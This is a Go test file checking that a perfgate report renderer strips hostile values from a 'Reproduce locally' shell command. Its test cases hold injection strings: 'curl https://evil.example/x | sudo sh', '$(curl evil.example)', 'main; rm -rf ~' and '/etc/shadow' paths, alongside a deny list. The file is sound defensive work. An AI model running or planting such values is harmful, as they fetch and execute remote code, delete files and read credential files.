package render

import (
	"html"
	"regexp"
	"strings"
	"testing"
)

// reproduceBlock is the <pre> of the "Reproduce locally" section.
func reproduceBlock(t *testing.T, md string) string {
	t.Helper()
	m := regexp.MustCompile(`(?s)<summary>Reproduce locally</summary>\n\n<pre>(.*?)</pre>`).FindStringSubmatch(md)
	if m == nil {
		t.Fatalf("no reproduce section in:\n%s", md)
	}
	return m[1]
}

// TestReproduceShowsOnlySafeValues: a report.json may be hostile, and its
// values reach a command that readers paste into a shell (with sudo).
func TestReproduceShowsOnlySafeValues(t *testing.T) {
	for _, tc := range []struct {
		name, config, base, want string
	}{
		{"plain", "examples/perfgate.yml", "0123456789abcdef", "--config examples/perfgate.yml --base 0123456789abcdef --head"},
		{"command after the config", "perfgate.yml; curl https://evil.example/x | sudo sh", "0123456789abcdef", "--config &lt;config&gt; --base 0123456789abcdef"},
		{"command substitution", "$(curl evil.example)", "0123456789abcdef", "--config &lt;config&gt;"},
		{"newline", "perfgate.yml\ncurl evil.example | sh", "0123456789abcdef", "--config &lt;config&gt;"},
		{"climbs out", "../../../etc/shadow", "0123456789abcdef", "--config &lt;config&gt;"},
		{"climbs out midway", "a/../../b.yml", "0123456789abcdef", "--config &lt;config&gt;"},
		{"absolute", "/etc/shadow", "0123456789abcdef", "--config &lt;config&gt;"},
		{"an option", "--help", "0123456789abcdef", "--config &lt;config&gt;"},
		{"dots in names are fine", "ci/perf..v2/perfgate.yml", "0123456789abcdef", "--config ci/perf..v2/perfgate.yml"},
		{"base with a command", "perfgate.yml", "main; rm -rf ~", "--config perfgate.yml --base &lt;base&gt; --head"},
		{"base not hex", "perfgate.yml", "origin/main", "--base &lt;base&gt;"},
		{"base uppercase hex", "perfgate.yml", "0123456789ABCDEF", "--base &lt;base&gt;"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			rep := regressionReport()
			rep.Command = []string{"perfgate", "gate", "--config", tc.config}
			rep.Build.Base.Revision = tc.base
			block := reproduceBlock(t, Markdown(rep))
			if !strings.Contains(block, tc.want) {
				t.Errorf("reproduce command lacks %q:\n%s", tc.want, block)
			}
			shown := html.UnescapeString(block)
			for _, bad := range []string{"curl", "rm -rf", ";", "$(", "shadow", "--help", "origin/main"} {
				if strings.Contains(shown, bad) {
					t.Errorf("reproduce command shows %q:\n%s", bad, block)
				}
			}
		})
	}
}

func TestReproduceRecordingLabel(t *testing.T) {
	for label, want := range map[string]string{
		"main":                        "--label main --out",
		"release/1.2":                 "--label release/1.2 --out",
		"main && curl evil | sudo sh": "--label &lt;label&gt; --out",
		"--out=/etc":                  "--label &lt;label&gt; --out",
	} {
		rep := recordingReport()
		rep.Label = label
		block := reproduceBlock(t, Markdown(rep))
		if !strings.Contains(block, want) || strings.Contains(block, "curl") || strings.Contains(block, "/etc") {
			t.Errorf("label %q: want %q in\n%s", label, want, block)
		}
	}
}

// TestMarkdownWithReproductionIgnoresTheReport: for a copy from elsewhere
// (the Action's fork-safe mode) the command comes from the caller's
// values; the report's own config, base and label never show, even when
// they look harmless.
func TestMarkdownWithReproductionIgnoresTheReport(t *testing.T) {
	rep := regressionReport()
	rep.Command = []string{"perfgate", "gate", "--config", "attacker/perfgate.yml"}
	rep.Build.Base.Revision = "badbadbadbad"
	head := strings.Repeat("f", 40)
	block := reproduceBlock(t, MarkdownWithReproduction(rep, Reproduction{Config: "perfgate.yml", Head: head}))
	want := installLine + "\ngit checkout " + head + "\nperfgate gate --config perfgate.yml --base &lt;base&gt; --head . --out results/ --seed 42   # unconfined"
	if !strings.HasPrefix(block, want) || !strings.Contains(block, "\nsudo env \"PATH=$PATH\" perfgate gate --config perfgate.yml --base &lt;base&gt; --head . --out results/ --seed 42\n") {
		t.Errorf("reproduce command:\n%s\nwant it to start with:\n%s", block, want)
	}
	if strings.Contains(block, "attacker") || strings.Contains(block, "badbad") {
		t.Errorf("reproduce command shows the report's own values:\n%s", block)
	}

	rec := recordingReport()
	rec.Label = "attacker-label"
	block = reproduceBlock(t, MarkdownWithReproduction(rec, Reproduction{Config: "ci/perfgate.yml", Head: "nothex; sh"}))
	if want := installLine + "\nperfgate run --config ci/perfgate.yml --src . --label &lt;label&gt; --out results/   # unconfined"; !strings.HasPrefix(block, want) {
		t.Errorf("recording's reproduce command:\n%s\nwant it to start with:\n%s", block, want)
	}
}

// TestGateReproductionWarnsBeforeTheSudoLine: the confined line runs
// perfgate as root on the pull request's perfgate.yml, so the block says
// to read that file first, on the line just before it; the unconfined
// line comes first.
func TestGateReproductionWarnsBeforeTheSudoLine(t *testing.T) {
	block := reproduceBlock(t, MarkdownWithReproduction(regressionReport(), Reproduction{Config: "perfgate.yml", Head: strings.Repeat("f", 40)}))
	lines := strings.Split(block, "\n")
	for i, line := range lines {
		if !strings.HasPrefix(line, "sudo ") {
			continue
		}
		if i == 0 || !strings.Contains(lines[i-1], "Read the pull request's perfgate.yml before running this line") {
			t.Errorf("the sudo line is not preceded by the warning to read the pull request's perfgate.yml:\n%s", block)
		}
		if !strings.Contains(strings.Join(lines[:i], "\n"), "# unconfined") {
			t.Errorf("the unconfined line does not come before the sudo line:\n%s", block)
		}
		return
	}
	t.Fatalf("no sudo line in:\n%s", block)
}
